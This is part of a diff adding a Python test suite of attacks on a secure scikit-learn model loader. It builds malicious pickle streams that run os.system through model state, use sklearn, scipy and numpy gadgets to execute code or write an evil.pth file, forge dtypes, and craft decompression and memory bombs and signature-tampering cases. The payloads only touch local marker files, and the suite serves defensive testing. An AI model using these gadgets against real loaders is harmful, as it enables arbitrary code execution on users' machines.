+    ops = glob("sklearn._loss.loss", "HalfSquaredError")
+    ops += tup(NONE, EMPTY_DICT + text("__ve_pwned__") + TRUE + SETITEM) + BUILD
+    check = STREAM_CONTROL + (
+        "from sklearn._loss.loss import HalfSquaredError\n"
+        "value = getattr(HalfSquaredError, '__ve_pwned__', False) is True\n"
+    )
+    inner_attack(corpus, atk, PROTO5 + ops + STOP, control="check", violation=True)
+    atk.control = Control("check", check)
+
+
+@attack("inner-code-in-model-state", 2, "os.system inside a LogisticRegression's state")
+def _(corpus: Corpus, atk: Attack) -> None:
+    model = LogisticRegression().fit(*corpus.iris)
+    model.notes_ = Call(os.system, touch(marker(corpus, atk)))
+    stream = pickle.dumps(model, protocol=5)
+    inner_attack(corpus, atk, stream, names=("posix.system",))
+    atk.control = Control("marker", JOBLIB_CONTROL)
+
+
+@attack("inner-call-built-object", 2, "REDUCE on an object the stream built")
+def _(corpus: Corpus, atk: Attack) -> None:
+    partial = call(
+        glob("functools", "partial"), glob("sklearn.utils.validation", "check_array")
+    )
+    rows = EMPTY_LIST + EMPTY_LIST + integer(1) + b"a" + b"a"
+    stream = PROTO5 + partial + tup(rows) + REDUCE + STOP
+    inner_attack(corpus, atk, stream, control=None, violation=True)
+
+
+@attack(
+    "inner-cloudpickle-code", 2, "a lambda stored by value, run by the probe replay"
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    from sklearn.preprocessing import FunctionTransformer
+
+    path = str(marker(corpus, atk))
+    code = f"lambda X: (open({path!r}, 'w').close(), X)[1]"
+    transformer = FunctionTransformer(eval(code), validate=False)
+    X = corpus.iris[0]
+    wrapped = ve.VersionedEstimator.wrap(transformer.fit(X), probe=X[:3])
+    base = parts_of(wrapped)
+    with contextlib.suppress(OSError):
+        os.unlink(path)
+    assert base.envelope["payload"]["pickler"] == "cloudpickle"
+    inner_attack(
+        corpus,
+        atk,
+        base.stream,
+        base=base,
+        envelope=lambda e: e.update(python="3.11.0"),
+    )
+    atk.control = Control("marker", JOBLIB_CONTROL)
+
+    def untrusted(label: str, outcome: Outcome) -> list[str]:
+        if label == "audit" and outcome.value and outcome.value["ok"]:
+            return ["audit says ok"]
+        return []
+
+    atk.check = untrusted
+
+
+def stacking_file(
+    corpus: Corpus, atk: Attack, wrap: Callable[[Any], Any], *, names: tuple[str, ...]
+) -> None:
+    """A StackingRegressor whose ``stack_method_`` names ``tofile`` and whose
+    estimator is (or forwards to) an array of .pth content: the probe replay,
+    fed rows that decode to a path, writes the array to that path."""
+    X = np.random.default_rng(0).random((30, 3))
+    y = X.sum(axis=1)
+    model = StackingRegressor([("a", Ridge())], final_estimator=LinearRegression())
+    model.fit(X, y)
+    base = parts_of(ve.VersionedEstimator.wrap(model, probe=X[:3]))
+    site = corpus.folder(atk.name) / "site-packages"
+    site.mkdir(exist_ok=True)
+    content = f"import os; os.system({touch(marker(corpus, atk))!r})\n".encode()
+    model.estimators_ = [wrap(np.array([content]))]
+    model.stack_method_ = ["tofile"]
+    stream = pickle.dumps(model, protocol=5)
+
+    def envelope(e: dict[str, Any]) -> None:
+        e.update(python="3.11.0", probe=probe_list_of(str(site / "evil.pth")))
+
+    inner_attack(
+        corpus,
+        atk,
+        stream,
+        base=base,
+        envelope=envelope,
+        names=names,
+        control_code=JOBLIB_CONTROL,
+    )
+    atk.path = write(
+        atk.path,
+        assemble(
+            base,
+            stream=stream,
+            buffers=[],
+            envelope=envelope,
+            trailer=lambda t: t.update(probe={"outputs": {"predict": ZERO_OUTPUT}}),
+        ),
+    )
+
+
+@attack("gadget-frozen-estimator", 2, "FrozenEstimator forwards tofile to an array")
+def _(corpus: Corpus, atk: Attack) -> None:
+    from sklearn.frozen import FrozenEstimator
+
+    stacking_file(
+        corpus, atk, FrozenEstimator, names=("sklearn.frozen._frozen.FrozenEstimator",)
+    )
+
+
+@attack("allowed-stacking-tofile", 2, "allowed names only: stack_method_ 'tofile'")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stacking_file(corpus, atk, lambda array: array, names=())
+    # Every name is allowed: load may succeed, but must not write the file.
+    atk.raises = {}
+    atk.codes = {}
+    atk.check = None
+
+
+@attack(
+    "gadget-scipy-distribution-exec", 2, "a scipy.stats distribution execs its state"
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    import scipy.stats
+
+    distribution = copy.copy(scipy.stats.norm)
+    distribution._parse_arg_template = (
+        f"open({str(marker(corpus, atk))!r}, 'w').close()\n"
+        + distribution._parse_arg_template
+    )
+    evil = distribution
+    stream = pickle.dumps(evil, protocol=5)
+    inner_attack(
+        corpus, atk, stream, names=("scipy.stats._continuous_distns.norm_gen",)
+    )
+
+
+@attack("gadget-scoring-monitor-connects", 2, "ScoringMonitor connects on restore")
+def _(corpus: Corpus, atk: Attack) -> None:
+    from sklearn.callback._scoring_monitor import ScoringMonitor
+    from sklearn.callback._transport import ListenerHandle
+
+    monitor = object.__new__(ScoringMonitor)
+    address = ("127.0.0.1", corpus.port[atk.name])
+    monitor.__dict__.update(
+        _scoring=None,
+        _log=[],
+        _estimator_scorers={},
+        _listener_handle=ListenerHandle(address=address, authkey=b"k" * 32),
+    )
+    stream = pickle.dumps(monitor, protocol=5)
+    inner_attack(
+        corpus, atk, stream, names=("sklearn.callback._scoring_monitor.ScoringMonitor",)
+    )
+    # multiprocessing's handshake then waits for the listener: a hang.
+    atk.control = Control("connect", STREAM_CONTROL, CONTROL_HANG)
+
+
+@attack("gadget-deprecated-rewrites-class", 2, "deprecated() applied to a class")
+def _(corpus: Corpus, atk: Attack) -> None:
+    decorator = call(glob("sklearn.utils.deprecation", "deprecated"), text("pwned"))
+    lr = glob("sklearn.linear_model._logistic", "LogisticRegression")
+    stream = PROTO5 + decorator + tup(lr) + REDUCE + STOP
+    inner_attack(corpus, atk, stream, names=("sklearn.utils.deprecation.deprecated",))
+    atk.control = Control(
+        "check",
+        STREAM_CONTROL + "import warnings\n"
+        "from sklearn.linear_model import LogisticRegression\n"
+        "with warnings.catch_warnings(record=True) as caught:\n"
+        "    warnings.simplefilter('always')\n"
+        "    LogisticRegression()\n"
+        "value = any('pwned' in str(w.message) for w in caught)\n",
+    )
+
+
+@attack("allowed-tree-node-out-of-range", 2, "a tree whose child index is 10**8")
+def _(corpus: Corpus, atk: Attack) -> None:
+    X, y = corpus.iris
+    tree = DecisionTreeClassifier(random_state=0).fit(X, y)
+    base = parts_of(ve.VersionedEstimator.wrap(tree, probe=X[:5]))
+    state = tree.tree_.__getstate__()
+    nodes = state["nodes"].copy()
+    nodes["left_child"][0] = nodes["right_child"][0] = 10**8
+    tree.tree_.__setstate__({**state, "nodes": nodes})
+    stream = pickle.dumps(tree, protocol=5)
+    inner_attack(
+        corpus,
+        atk,
+        stream,
+        base=base,
+        envelope=lambda e: e.update(python="3.11.0"),
+        control="crash",
+        control_code=JOBLIB_CONTROL,
+    )
+    atk.raises = {}  # every name is allowed; what matters is no crash
+    atk.codes = {}
+    atk.check = None
+
+
+# -- 3. forged dtypes ------------------------------------------------------------------
+
+
+def _object_dtype_stream(kind: str) -> bytes:
+    if kind == "reconstruct":
+        array = call(
+            glob("numpy._core.multiarray", "_reconstruct"),
+            glob("numpy", "ndarray"),
+            tup(integer(0)),
+            raw(b"b"),
+        )
+        state = tup(integer(1), tup(integer(2)), forged_object_dtype(), FALSE)
+        state = state[:-1] + raw(b"A" * 16) + TUPLE
+        return PROTO5 + array + state + BUILD + STOP
+    if kind == "frombuffer":
+        ops = call(
+            glob("numpy._core.numeric", "_frombuffer"),
+            raw(b"A" * 16),
+            forged_object_dtype(),
+            tup(integer(2)),
+            text("C"),
+        )
+        return PROTO5 + ops + STOP
+    ops = call(
+        glob("numpy._core.multiarray", "scalar"), forged_object_dtype(), raw(b"A" * 8)
+    )
+    return PROTO5 + ops + STOP
+
+
+for _kind in ("reconstruct", "frombuffer", "scalar"):
+
+    @attack(f"dtype-forged-object-{_kind}", 3, f"object dtype with flags 0 ({_kind})")
+    def _(corpus: Corpus, atk: Attack, kind: str = _kind) -> None:
+        inner_attack(
+            corpus,
+            atk,
+            _object_dtype_stream(kind),
+            control="crash",
+            control_code=STREAM_CONTROL + "print(repr(obj))\n",
+            violation=True,
+        )
+
+
+@attack("dtype-object-array-from-bytes", 3, "a genuine object dtype over raw bytes")
+def _(corpus: Corpus, atk: Attack) -> None:
+    dtype = call(glob("numpy", "dtype"), text("O8"), FALSE, TRUE)
+    dtype += tup(integer(3), text("|"), NONE, NONE, NONE, integer(-1), integer(-1))
+    dtype = dtype[:-1] + integer(63) + TUPLE + BUILD
+    ops = call(
+        glob("numpy._core.numeric", "_frombuffer"),
+        raw(b"A" * 16),
+        dtype,
+        tup(integer(2)),
+        text("C"),
+    )
+    inner_attack(corpus, atk, PROTO5 + ops + STOP, control=None, violation=True)
+
+
+# -- 4. no import to decide ------------------------------------------------------------
+
+STDLIB_UNUSED = (
+    "tkinter",
+    "turtle",
+    "idlelib.pyshell",
+    "xmlrpc.server",
+    "http.server",
+    "smtplib",
+    "pdb",
+    "doctest",
+    "lib2to3.main",
+    "wsgiref.simple_server",
+    "ftplib",
+    "imaplib",
+    "sqlite3",
+    "curses",
+    "this",
+)
+
+
+def fake_package(corpus: Corpus) -> Path:
+    """A package on the workers' path whose modules create a file when imported."""
+    root = corpus.root / "packages"
+    package = root / "vehostile_pkg"
+    if not package.exists():
+        package.mkdir(parents=True)
+        touched = corpus.root / "packages-imported"
+        touched.mkdir(exist_ok=True)
+        code = "open({!r}, 'w').close()\n"
+        (package / "__init__.py").write_text(code.format(str(touched / "__init__")))
+        (package / "evil.py").write_text(
+            code.format(str(touched / "evil")) + "class Thing:\n    pass\n"
+        )
+        for i in range(30):
+            (package / f"m{i}.py").write_text(code.format(str(touched / f"m{i}")))
+    return root
+
+
+@attack("import-module-written-to-package", 4, "a global in a module on disk")
+def _(corpus: Corpus, atk: Attack) -> None:
+    root = fake_package(corpus)
+    stream = PROTO5 + glob("vehostile_pkg.evil", "Thing") + b")" + b"\x81" + STOP
+    inner_attack(corpus, atk, stream, names=("vehostile_pkg.evil.Thing",))
+    atk.forbid = ["vehostile_pkg", "vehostile_pkg.evil"]
+    atk.watch.append(corpus.root / "packages-imported")
+    atk.watch.append(root)
+
+
+@attack("import-many-modules", 4, "globals in 45 modules nobody imported")
+def _(corpus: Corpus, atk: Attack) -> None:
+    root = fake_package(corpus)
+    modules = [f"vehostile_pkg.m{i}" for i in range(30)] + list(STDLIB_UNUSED)
+    items = b"".join(glob(m, "Anything") for m in modules)
+    stream = PROTO5 + EMPTY_LIST + MARK + items + APPENDS + STOP
+    inner_attack(corpus, atk, stream, names=tuple(f"{m}.Anything" for m in modules))
+    atk.forbid = ["vehostile_pkg", *modules]
+    atk.watch.append(corpus.root / "packages-imported")
+    atk.watch.append(root)
+
+
+# -- 5. bounded time and memory --------------------------------------------------------
+
+
+@attack("head-tuple-key-bomb", 5, "a dict key of 2**60 shared tuples in the head")
+def _(corpus: Corpus, atk: Attack) -> None:
+    head_file(corpus, atk, EMPTY_DICT + tuple_bomb(60) + integer(1) + SETITEM + STOP)
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+    atk.control = Control("hang", PICKLE_CONTROL, CONTROL_HANG)
+
+
+@attack("head-deep-tuple-key", 5, "a dict key nested 100,000 tuples deep in the head")
+def _(corpus: Corpus, atk: Attack) -> None:
+    deep = NONE + TUPLE1 * 100_000
+    head_file(corpus, atk, EMPTY_DICT + deep + integer(1) + SETITEM + STOP)
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+
+
+@attack("head-reduce-on-tuple-bomb", 5, "REDUCE whose callable is a 2**60 tuple bomb")
+def _(corpus: Corpus, atk: Attack) -> None:
+    head_file(corpus, atk, tuple_bomb(60) + b")" + REDUCE + STOP)
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+
+
+@attack("head-memo-expansion", 5, "metadata of shared lists expanding to 2**40 nodes")
+def _(corpus: Corpus, atk: Attack) -> None:
+    def envelope(e: dict[str, Any]) -> None:
+        e["metadata"] = Hole(0)
+
+    data = dumps_fast(assemble(corpus.small, envelope=envelope, recompute=False))
+    data = splice(data, {0: EMPTY_DICT + text("rows") + list_bomb(40) + SETITEM})
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(data)
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+    atk.control = Control(
+        "hang or memory",
+        "import joblib\nobj = joblib.load(path)\nobj.envelope.to_json()\n",
+        CONTROL_HANG,
+    )
+
+
+@attack("head-deep-nesting", 5, "metadata nested 200,000 levels deep")
+def _(corpus: Corpus, atk: Attack) -> None:
+    def envelope(e: dict[str, Any]) -> None:
+        e["metadata"] = Hole(0)
+
+    data = dumps_fast(assemble(corpus.small, envelope=envelope, recompute=False))
+    deep = EMPTY_DICT + text("deep") + EMPTY_LIST + (TUPLE1 * 200_000) + SETITEM
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(splice(data, {0: deep}))
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+
+
+@attack("inner-dict-key-hash-bomb", 5, "an inner dict key of 2**60 shared tuples")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + EMPTY_DICT + tuple_bomb(60) + integer(1) + SETITEM + STOP
+    inner_attack(corpus, atk, stream, control="hang")
+    atk.control = Control("hang", STREAM_CONTROL, CONTROL_HANG)
+
+
+@attack("inner-deep-dict-key", 5, "an inner dict key 1,000,000 tuples deep (SIGSEGV)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + EMPTY_DICT + NONE + TUPLE1 * 1_000_000 + integer(1) + SETITEM
+    inner_attack(corpus, atk, stream + STOP, control="crash")
+
+
+@attack("inner-dtype-args-bomb", 5, "numpy.dtype called with a 2**60 tuple bomb")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + glob("numpy", "dtype") + tuple_bomb(60) + TUPLE1 + REDUCE + STOP
+    inner_attack(corpus, atk, stream, control=None, violation=True)
+
+
+@attack("inner-huge-memo-index", 5, "LONG_BINPUT 2**28 in the inner stream (4 GB)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + NONE + put(2**28) + STOP
+    inner_attack(corpus, atk, stream, control="memory")
+    atk.raises = {"load": {"UntrustedGlobalError"}}
+
+
+@attack("inner-memo-index-1gib", 5, "LONG_BINPUT 2**26 in the inner stream (1 GiB)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    # Small enough that the C unpickler's memo (2**27 pointers) fits the limit:
+    # a reader that runs it anyway shows as resident memory, not MemoryError.
+    stream = PROTO5 + NONE + put(2**26) + STOP
+    inner_attack(corpus, atk, stream, control=None)
+    atk.raises = {"load": {"UntrustedGlobalError"}}
+
+
+@attack("compressed-declared-length", 5, "a gzip file declaring a 1 GiB stream")
+def _(corpus: Corpus, atk: Attack) -> None:
+    declared = 1024 * MIB
+
+    def envelope(e: dict[str, Any]) -> None:
+        e["payload"]["stream"] = {"nbytes": declared}
+        e["payload"]["nbytes"] = declared
+
+    data = dumps_fast(
+        assemble(corpus.small, envelope=envelope, stream=Hole(0), recompute=False)
+    )
+    head = data.split(dumps_fast(Hole(0))[2:-1])[0]
+    body = head + b"\x8e" + struct.pack("<Q", declared) + bytes(4096)
+    atk.path = corpus.folder(atk.name) / "model.joblib.gz"
+    atk.path.write_bytes(gzip.compress(body))
+    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
+    atk.codes = {"cli audit": {2}, "cli verify": {2}}
+
+
+@attack("uncompressed-declared-length", 5, "a plain file declaring a 1 GiB stream")
+def _(corpus: Corpus, atk: Attack) -> None:
+    declared = 1024 * MIB
+
+    def envelope(e: dict[str, Any]) -> None:
+        e["payload"]["stream"] = {"nbytes": declared}
+
+    data = dumps_fast(
+        assemble(corpus.small, envelope=envelope, stream=Hole(0), recompute=False)
+    )
+    head = data.split(dumps_fast(Hole(0))[2:-1])[0]
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(head + b"\x8e" + struct.pack("<Q", declared) + bytes(4096))
+    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
+    atk.codes = {"cli audit": {2}, "cli verify": {2}}
+
+
+@attack("bz2-bomb-in-buffer", 5, "a bz2 joblib file whose buffer inflates to 96 MiB")
+def _(corpus: Corpus, atk: Attack) -> None:
+    X = np.full((8192, 1), 0.5)
+    model = ve.VersionedEstimator(KNeighborsClassifier(algorithm="brute"))
+    model.fit(X, np.arange(8192) % 2)
+    buffer = io.BytesIO()
+    joblib.dump(model, buffer)
+    data = buffer.getvalue()
+    content = X.tobytes()
+    start = data.find(content)
+    assert start > 0
+    assert len(content) == 65536
+    size = 96 * MIB  # beyond what the reader inflates from a file of 3 KB
+    small, big = b"J" + struct.pack("<i", 65536), b"J" + struct.pack("<i", size)
+    prefix = data[:start]
+    assert prefix.count(small) >= 2
+    compressor = bz2.BZ2Compressor(9)
+    out = [compressor.compress(prefix.replace(small, big))]
+    zeros = bytes(16 * MIB)
+    out += [compressor.compress(zeros) for _ in range(size // len(zeros))]
+    out += [compressor.compress(data[start + len(content) :]), compressor.flush()]
+    atk.path = corpus.folder(atk.name) / "model.joblib.bz2"
+    atk.path.write_bytes(b"".join(out))
+    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
+    atk.codes = {"cli audit": {2}, "cli verify": {2}}
+    atk.control = Control(
+        "check",
+        "import bz2\nvalue = len(bz2.decompress(open(path, 'rb').read())) > 90 << 20\n",
+    )
+
+
+@attack("fifo-path", 5, "a FIFO given as the model path")
+def _(corpus: Corpus, atk: Attack) -> None:
+    atk.path = corpus.folder(atk.name) / "model.fifo"
+    os.mkfifo(atk.path)
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+    atk.max_seconds = 10.0
+    atk.control = Control("hang", "open(path, 'rb').read()\n", CONTROL_HANG)
+
+
+def long_head(corpus: Corpus, atk: Attack, protocol: int, items: int) -> None:
+    """A valid file whose head is long (a metadata list of ``items`` ints):
+    read in time linear in its size (compared with the quarter-size file)."""
+    model = corpus.small.copy()
+    obj = assemble(
+        model,
+        envelope=lambda e: e["metadata"].update(rows=[1] * items),
+        recompute=False,
+    )
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(pickle.dumps(obj, protocol=protocol))
+    atk.entries = ("read_envelope",)
+    atk.max_seconds = 100.0
+    atk.hang = 120.0
+
+    def readable(label: str, outcome: Outcome) -> list[str]:
+        if outcome.error is not None:
+            return [f"a valid file is refused: {outcome.error['message'][:200]}"]
+        return []
+
+    atk.check = readable
+
+
+@attack("long-head-protocol-5", 5, "a 3.9 MB head (1.9 million list items)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    long_head(corpus, atk, 5, 1_950_000)
+    assert 3_800_000 < atk.path.stat().st_size < 4_100_000  # type: ignore[union-attr]
+
+
+@attack("long-head-protocol-5-quarter", 5, "the same head, a quarter as long")
+def _(corpus: Corpus, atk: Attack) -> None:
+    long_head(corpus, atk, 5, 1_950_000 // 4)
+    atk.entries = ("read_envelope",)
+
+
+@attack("long-head-protocol-0", 5, "a 3.9 MB protocol 0 head")
+def _(corpus: Corpus, atk: Attack) -> None:
+    long_head(corpus, atk, 0, 975_000)
+    assert 3_800_000 < atk.path.stat().st_size < 4_100_000  # type: ignore[union-attr]
+
+
+@attack(
+    "long-head-protocol-0-quarter", 5, "the same protocol 0 head, a quarter as long"
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    long_head(corpus, atk, 0, 975_000 // 4)
+    atk.entries = ("read_envelope",)
+
+
+@attack("twenty-thousand-packages", 5, "20,000 package entries")
+def _(corpus: Corpus, atk: Attack) -> None:
+    packages = {f"pkg{i}": "1.0" for i in range(20_000)}
+
+    def envelope(e: dict[str, Any]) -> None:
+        e["packages"] = dict(packages)
+        e["requirements"] = dict(packages)
+
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        assemble(corpus.small, envelope=envelope),
+    )
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+    atk.max_seconds = 15.0
+
+
+# -- 6. integrity ----------------------------------------------------------------------
+
+
+def big_stream(corpus: Corpus) -> tuple[Parts, bytes]:
+    """A KNN over 9 MB of data, and its inner stream with the data in-band."""
+    if "_big" not in corpus.__dict__:
+        rng = np.random.default_rng(0)
+        X = rng.random((140_000, 8))
+        knn = KNeighborsClassifier(algorithm="brute").fit(
+            X, rng.integers(0, 2, 140_000)
+        )
+        base = parts_of(ve.VersionedEstimator.wrap(knn, probe=X[:5]))
+        corpus.__dict__["_big"] = (base, pickle.dumps(knn, protocol=5))
+    return corpus.__dict__["_big"]  # type: ignore[no-any-return]
+
+
+def block_digests(stream: bytes) -> bytes:
+    block = 8 * MIB
+    return b"".join(
+        hashlib.sha256(stream[i : i + block]).digest()
+        for i in range(0, len(stream), block)
+    )
+
+
+def format1_swap(corpus: Corpus, atk: Attack, *, key: str | None) -> None:
+    base, stream = big_stream(corpus)
+    assert len(stream) > 8 * MIB
+    head = format1(base, stream=stream, key=key)
+    swapped = block_digests(stream)
+    # The swap is real: format 1's digest of the 64 bytes is the stream's.
+    assert hashlib.sha256(swapped).hexdigest() == head["payload"]["stream"]["digest"]
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        Reduced((base.rebuild, (head, swapped, []))),
+    )
+    atk.raises = {"load": {"IntegrityError"}}
+    atk.codes = {"cli verify": {1}}
+    if key:
+        atk.load_args = {"key": KEY}
+        atk.extra = [("load (no key)", "load", {})]
+
+
+@attack(
+    "format1-signed-stream-swap",
+    6,
+    "a signed format 1 stream replaced by its block digests",
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    format1_swap(corpus, atk, key=KEY)
+
+
+@attack(
+    "format1-stream-swap",
+    6,
+    "an unsigned format 1 stream replaced by its block digests",
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    format1_swap(corpus, atk, key=None)
+
+
+@attack("format1-signed-intact", 0, "the same signed format 1 file, intact (must load)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    base, stream = big_stream(corpus)
+    head = format1(base, stream=stream, key=KEY)
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        Reduced((base.rebuild, (head, stream, []))),
+    )
+    atk.load_args = {"key": KEY}
+    atk.entries = ("read_envelope", "audit", "load", "cli verify")
+    atk.check = must_load
+
+
+@attack(
+    "format2-signed-stream-swap",
+    6,
+    "a signed format 2 stream replaced by its block digests",
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    base, stream = big_stream(corpus)
+    signed = assemble(base, stream=stream, buffers=[], key=KEY)
+    head, _, _, trailer = signed.reduced[1]
+    swapped = block_digests(stream)
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        Reduced((base.rebuild, (head, swapped, [], trailer))),
+    )
+    atk.load_args = {"key": KEY}
+    atk.raises = {"load": {"IntegrityError", "EnvelopeError"}}
+    atk.codes = {"cli verify": {1, 2}}
+
+
+@attack(
+    "format2-signed-buffer-swap",
+    6,
+    "a signed 9 MB buffer replaced by its block digests",
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    base, _ = big_stream(corpus)
+    big = max(base.buffers, key=lambda b: b.nbytes)
+    assert big.nbytes > 8 * MIB
+    signed = assemble(base, key=KEY)
+    head, stream, buffers, trailer = signed.reduced[1]
+    head = copy.deepcopy(head)
+    index = next(i for i, b in enumerate(buffers) if b is big)
+    swapped = np.frombuffer(block_digests(big.tobytes()), np.uint8)
+    head["payload"]["buffers"][index] = {"nbytes": swapped.nbytes}
+    new_buffers = list(buffers)
+    new_buffers[index] = swapped
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        Reduced((base.rebuild, (head, stream, new_buffers, trailer))),
+    )
+    atk.load_args = {"key": KEY}
+    atk.raises = {"load": {"IntegrityError", "EnvelopeError"}}
+    atk.codes = {"cli verify": {1, 2}}
+
+
+def lazy_buffer(corpus: Corpus, atk: Attack, buffer: Any) -> None:
+    """A file whose outer buffers list holds something other than a raw
+    uint8 array: the reader refuses it; plain joblib.load seals it, and the
+    first use must fail with this package's error."""
+    outer_attack(corpus, atk, buffers=[buffer])
+    atk.extra = [
+        (
+            "joblib.load + first use",
+            "exec",
+            {
+                "code": "import joblib\nobj = joblib.load(path)\n"
+                "obj.predict([[0.0, 0.0, 0.0, 0.0]])\n"
+            },
+        )
+    ]
+    atk.raises["joblib.load + first use"] = {"IntegrityError", "EnvelopeError"}
+
+
+@attack("buffer-strided", 6, "a strided uint8 buffer")
+def _(corpus: Corpus, atk: Attack) -> None:
+    lazy_buffer(
+        corpus,
+        atk,
+        Call(np.lib.stride_tricks.as_strided, np.zeros(40, np.uint8), (20,), (2,)),
+    )
+
+
+@attack("buffer-float64", 6, "a float64 buffer")
+def _(corpus: Corpus, atk: Attack) -> None:
+    lazy_buffer(corpus, atk, np.zeros(8))
+
+
+@attack("buffer-text", 6, "a str where a buffer belongs")
+def _(corpus: Corpus, atk: Attack) -> None:
+    lazy_buffer(corpus, atk, "not a buffer")
+
+
+@attack("buffer-2d", 6, "a 2-D uint8 buffer")
+def _(corpus: Corpus, atk: Attack) -> None:
+    lazy_buffer(corpus, atk, np.zeros((4, 4), np.uint8))
+
+
+@attack(
+    "verify-counts-from-stream", 6, "an envelope listing 500 globals it does not use"
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    fake = [f"fake.module{i}.Name" for i in range(500)]
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        assemble(corpus.small, envelope=lambda e: e.update(globals=fake)),
+    )
+    atk.entries = ("audit", "load", "cli verify")
+    names = len(ve.audit(atk.path).globals)
+
+    def counted(label: str, outcome: Outcome) -> list[str]:
+        if label != "cli verify" or outcome.status != "done" or not outcome.value:
+            return []
+        stdout = outcome.value["stdout"]
+        if f"{names} globals" not in stdout:
+            shown = [line.strip() for line in stdout.splitlines() if "globals" in line]
+            return [f"verify does not print the {names} globals of the stream: {shown}"]
+        return []
+
+    atk.check = counted
+
+
+@attack("digest-byte-flipped", 6, "one byte of the model's arrays changed")
+def _(corpus: Corpus, atk: Attack) -> None:
+    data = pickle.dumps(assemble(corpus.small), protocol=5)
+    coef = corpus.small_model.estimator_.intercept_.tobytes()
+    at = data.find(coef)
+    assert at > 0
+    flipped = bytearray(data)
+    flipped[at + 3] ^= 0x10
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(bytes(flipped))
+    atk.raises = {"load": {"IntegrityError"}}
+    atk.codes = {"cli verify": {1}}
+
+
+def signed_variant(
+    corpus: Corpus, atk: Attack, obj: Any, *, raises: set[str] | None = None
+) -> None:
+    atk.path = write(corpus.folder(atk.name) / "model.joblib", obj)
+    atk.load_args = {"key": KEY}
+    atk.raises = {"load": raises or {"IntegrityError"}}
+    atk.codes = {"cli verify --key-env": {1}}
+    atk.entries = (*ENTRIES, "cli verify --key-env")
+
+
+@attack("signed-intact", 0, "a signed file, intact (must load with the key)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    signed_variant(corpus, atk, assemble(corpus.small, key=KEY))
+    atk.raises = {}
+    atk.codes = {"cli verify --key-env": {0}}
+    atk.check = must_load
+
+
+@attack("signed-envelope-changed", 6, "metadata changed after signing")
+def _(corpus: Corpus, atk: Attack) -> None:
+    signed = assemble(corpus.small, key=KEY)
+    signed.reduced[1][0]["metadata"] = {"owner": "mallory"}
+    signed_variant(corpus, atk, signed)
+
+
+@attack("signed-trailer-outputs-changed", 6, "probe outputs changed after signing")
+def _(corpus: Corpus, atk: Attack) -> None:
+    signed = assemble(corpus.small, key=KEY)
+    signed.reduced[1][3].data["probe"] = {"outputs": {}}
+    signed_variant(corpus, atk, signed)
+
+
+@attack("signed-signature-stripped", 6, "the signature removed")
+def _(corpus: Corpus, atk: Attack) -> None:
+    signed = assemble(corpus.small, key=KEY)
+    del signed.reduced[1][3].data["signature"]
+    signed_variant(corpus, atk, signed)
+
+
+@attack("signed-with-another-key", 6, "signed with another key")
+def _(corpus: Corpus, atk: Attack) -> None:
+    signed_variant(corpus, atk, assemble(corpus.small, key="another key"))
+
+
+@attack("signed-downgraded-to-crc32", 6, "re-written unsigned, CRC-32 recomputed")
+def _(corpus: Corpus, atk: Attack) -> None:
+    signed_variant(corpus, atk, assemble(corpus.small))
+
+
+@attack("signed-payload-swapped", 6, "another model's stream, checksums recomputed")
+def _(corpus: Corpus, atk: Attack) -> None:
+    other = pickle.dumps(Ridge().fit(*corpus.iris), protocol=5)
+    signed = assemble(corpus.small, key=KEY)
+    head, _, _, trailer = signed.reduced[1]
+    record = start_checksums("sha256", other, []).result()
+    trailer.data["checksums"] = record
+    head = copy.deepcopy(head)
+    head["payload"]["stream"] = {"nbytes": len(other)}
+    head["payload"]["buffers"] = []
+    signed_variant(
+        corpus, atk, Reduced((corpus.small.rebuild, (head, other, [], trailer)))
+    )
+
+
+# -- 7. output -------------------------------------------------------------------------
